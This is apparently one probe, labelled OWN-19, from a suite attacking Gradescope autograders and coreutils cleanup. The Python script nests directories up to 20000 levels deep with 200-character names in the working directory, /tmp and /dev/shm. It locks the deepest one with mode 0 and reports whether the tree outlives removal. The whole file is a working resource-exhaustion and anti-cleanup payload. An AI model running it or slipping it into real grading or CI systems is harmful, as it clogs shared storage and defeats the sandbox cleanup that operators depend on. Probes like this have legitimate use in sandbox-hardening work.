# OWN-19 Gradescope and coreutils: a tree so deep that who removes it runs out of path, stack or time. HELD when planted; the oracle looks whether all is gone.
import os
deep = 0
for start in (".", "/tmp", "/dev/shm"):
    try:
        os.chdir(start)
        while deep < 20000: os.mkdir("d" * 200); os.chdir("d" * 200); deep += 1
    except OSError: pass
    try: open("leaf", "w").close(); os.chmod(".", 0)
    except OSError: pass
print("OWN-19 HELD depth", deep)
